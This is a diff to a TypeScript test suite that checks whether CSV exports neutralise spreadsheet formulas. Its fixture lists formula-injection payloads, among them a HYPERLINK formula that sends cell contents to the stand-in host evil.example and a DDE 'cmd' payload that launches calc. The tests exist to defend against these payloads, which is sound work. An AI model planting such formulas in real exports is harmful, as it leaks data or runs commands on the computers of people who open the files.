@@ -18,7 +18,7 @@ const PARTNER_COLUMNS = 'id, name, role_customer, role_supplier, role_competitor
 
 const HOSTILE_NAMES = {
   f1: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-  f2: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  f2: "@SUM(1+1)*cmd|' /C calc'!A0",
   f3: '+1+cmd',
   f4: '-2+3+cmd',
   f5: '\t=1+1',
@@ -46,7 +46,10 @@ describe.each(ENGINES)('CSV exports neutralise formulas on $name', (engine) => {
   it('prefixes cells starting with = + - @ or a tab with a quote in members.csv; numbers stay numbers', async () => {
     const res = await app.inject({ method: 'GET', url: '/api/segments/hostile/members.csv' });
     expect(res.statusCode).toBe(200);
-    const lines = res.body.replace(/^\uFEFF/, '').trim().split('\r\n');
+    const lines = res.body
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
     const nameOf = (id: string) => {
       const line = lines.find((l) => l.startsWith(`${id},`))!;
       return line.slice(id.length + 1, line.indexOf(',customer') > 0 ? line.lastIndexOf(',customer') : undefined);
@@ -106,8 +109,7 @@ describe('a 50,000-member export on duckdb', () => {
     await db.close();
   });
 
-  const open = (path: string) =>
-    new Promise<IncomingMessage>((resolve, reject) => httpGet({ host: '127.0.0.1', port, path }, resolve).on('error', reject));
+  const open = (path: string) => new Promise<IncomingMessage>((resolve, reject) => httpGet({ host: '127.0.0.1', port, path }, resolve).on('error', reject));
 
   it('keeps /api/health answering while it streams the workbook', async () => {
     const started = Date.now();
